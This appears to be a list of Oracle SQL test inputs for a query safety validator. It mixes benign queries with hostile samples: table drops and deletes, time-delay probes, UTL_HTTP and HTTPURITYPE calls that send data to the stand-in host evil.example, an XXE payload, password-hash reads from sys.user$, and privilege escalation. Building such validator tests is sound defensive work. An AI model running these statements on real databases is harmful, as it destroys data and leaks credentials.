SELECT 1 FROM dual; DROP TABLE orders

DELETE FROM orders

UPDATE orders SET status = 'x'

INSERT INTO orders (order_id) SELECT 1 FROM dual

INSERT ALL INTO orders (order_id) VALUES (1) INTO stock (product_id) VALUES (2) SELECT * FROM dual

MERGE INTO orders o USING dual ON (1 = 1) WHEN MATCHED THEN UPDATE SET o.status = 'x'

BEGIN DELETE FROM orders; END;

DECLARE x NUMBER; BEGIN SELECT 1 INTO x FROM dual; END;

BEGIN EXECUTE IMMEDIATE 'DROP TABLE orders'; END;

CALL DBMS_LOCK.SLEEP(10)

EXEC DBMS_LOCK.SLEEP(10)

SELECT UTL_HTTP.REQUEST('http://evil.example/' || name) FROM customers

SELECT UTL_INADDR.GET_HOST_ADDRESS('evil.example') FROM dual

SELECT sys.UTL_HTTP.REQUEST('http://evil.example') FROM dual

SELECT HTTPURITYPE('http://evil.example').GETCLOB() FROM dual

SELECT SYS.HTTPURITYPE('http://evil.example') FROM dual

SELECT "HTTPURITYPE"('http://evil.example') FROM dual

SELECT URIFACTORY.GETURI('http://evil.example') FROM dual

SELECT DBURITYPE('/SYS/USER$').GETCLOB() FROM dual

SELECT BFILENAME('DIR', 'passwd') FROM dual

SELECT DBMS_XMLGEN.GETXML('SELECT * FROM sys.user$') FROM dual

SELECT XMLTYPE('<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example">]><a>&x;</a>') FROM dual

SELECT EXTRACTVALUE(XMLTYPE('<a/>'), '/a') FROM dual

SELECT XMLQUERY('doc("/public/x")' RETURNING CONTENT) FROM dual

SELECT DBMS_PIPE.RECEIVE_MESSAGE('x', 10) FROM dual

SELECT DBMS_SESSION.SLEEP(10) FROM dual

SELECT DBMS_LDAP.INIT('evil.example', 80) FROM dual

SELECT CTXSYS.DRITHSX.SN(1, 'x') FROM dual

SELECT ORDSYS.ORD_DICOM.GETMAPPINGXPATH('x', 'y', 'z') FROM dual

SELECT SYS_CONTEXT('USERENV', 'SESSION_USER') FROM dual

SELECT USERENV('SESSIONID') FROM dual

SELECT DBMS_JAVA.RUNJAVA('oracle.aurora.util.Test') FROM dual

SELECT DBMS_SQL.EXECUTE(1) FROM dual

SELECT orders_seq.NEXTVAL FROM dual

SELECT o.order_id, orders_seq.CURRVAL FROM orders o

SELECT DBMS_RANDOM.STRING('A', 20) FROM dual

SELECT my_package.my_function(order_id) FROM orders

SELECT my_package.no_arguments FROM dual

SELECT my_function(1) FROM dual

SELECT * FROM TABLE(my_pipelined(1))

SELECT * FROM TABLE(DBMS_XPLAN.DISPLAY_CURSOR())

SELECT * FROM orders@production

SELECT * FROM hr.employees@remote_link

SELECT name FROM sys.user$

SELECT username FROM dba_users

SELECT username, password FROM SYS.DBA_USERS

SELECT table_name FROM all_tables

SELECT table_name FROM user_tables

SELECT * FROM v$session

SELECT * FROM gv$sql

SELECT * FROM v_$parameter

SELECT * FROM "SYS"."USER$"

SELECT * FROM cdb_users

SELECT text FROM all_source

SELECT * FROM user_tab_columns

SELECT db_link FROM all_db_links

SELECT * FROM orders FOR UPDATE

SELECT * FROM orders FOR UPDATE OF status NOWAIT

SELECT * FROM orders WHERE status = 'x' FOR UPDATE SKIP LOCKED

CREATE TABLE t AS SELECT * FROM customers

CREATE OR REPLACE FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END;

WITH FUNCTION f RETURN NUMBER IS BEGIN DELETE FROM orders; RETURN 1; END; SELECT f FROM dual

WITH PROCEDURE p IS BEGIN NULL; END; SELECT 1 FROM dual

GRANT DBA TO scott

ALTER SESSION SET CURRENT_SCHEMA = sys

ALTER SYSTEM KILL SESSION '1,2'

ALTER USER sys IDENTIFIED BY x

LOCK TABLE orders IN EXCLUSIVE MODE

EXPLAIN PLAN FOR SELECT * FROM orders

TRUNCATE TABLE orders

PURGE RECYCLEBIN

FLASHBACK TABLE orders TO BEFORE DROP

SET ROLE dba

COMMIT

SELECT /*+ OPT_PARAM('_optimizer_x' 'true') */ * FROM orders

SELECT --+ PARALLEL(64)
* FROM orders

SELECT * FROM orders WHERE status = :status

SELECT * FROM orders WHERE status = '&status' AND order_id = &id

SELECT q'[it's]' FROM dual; DELETE FROM orders

SELECT 1 FROM dual UNION SELECT UTL_HTTP.REQUEST('http://evil.example') FROM dual

SELECT CASE WHEN (SELECT COUNT(*) FROM employees) > 1 THEN DBMS_PIPE.RECEIVE_MESSAGE('a', 5) ELSE 1 END FROM dual
